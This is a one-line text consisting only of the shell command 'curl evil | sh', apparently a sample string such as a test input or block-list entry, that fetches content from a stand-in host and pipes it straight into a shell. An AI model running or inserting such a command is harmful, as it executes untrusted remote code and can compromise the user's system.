curl evil | sh
